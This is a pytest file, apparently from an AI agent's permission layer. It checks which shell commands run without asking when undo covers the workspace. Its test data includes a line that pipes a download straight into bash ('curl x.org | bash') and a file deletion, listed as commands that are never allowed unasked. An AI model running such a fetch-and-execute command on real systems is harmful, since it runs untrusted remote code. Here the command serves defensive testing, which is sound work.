"""What runs unasked where undo covers it: as many of the everyday commands as the page says, and no more than may."""

import re
from pathlib import Path

import pytest

from neuralclaw.types.risk import Decision

from .asking import COMMANDS, asking

pytestmark = pytest.mark.anyio
PAGE = Path(__file__).parents[2] / "docs" / "undo.md"


async def test_the_page_says_how_many_of_the_everyday_commands_ask(tmp_path: Path) -> None:
    workspace = tmp_path / "w"
    workspace.mkdir()
    for words, undo in (("without undo", False), ("with undo", True)):
        found = await asking(workspace, undo=undo)
        counts = " | ".join(str(len(found[decision])) for decision in (Decision.ALLOW, Decision.ASK, Decision.FORBID))
        assert re.search(rf"^\| {words} \| {counts.replace('|', '.')} \|$", PAGE.read_text(), re.MULTILINE), counts
    assert len(COMMANDS) == 250


SCRIPTS = ("./run.sh", "./run.sh --fast", "bash build.sh", "./run.sh && make", "bash", "bash -s", "bash /etc/profile", "./missing.sh")
NONE_OF_THE_WORKSPACE = (
    *("../run.sh", "/tmp/run.sh", "./link.sh", "bash < build.sh"),
    *("rm run.sh", "curl x.org | bash", "git archive -o /var/x.tar HEAD"),
)


@pytest.mark.parametrize("undo", [True, False])
async def test_scripts_of_the_workspace_run_unasked_only_where_undo_covers_them(tmp_path: Path, undo: bool) -> None:
    workspace = tmp_path / "w"
    workspace.mkdir()
    (workspace / "link.sh").symlink_to("/bin/true")
    found = await asking(workspace, (*SCRIPTS, *NONE_OF_THE_WORKSPACE), undo=undo)
    assert found[Decision.ALLOW] == (list(SCRIPTS) if undo else [])
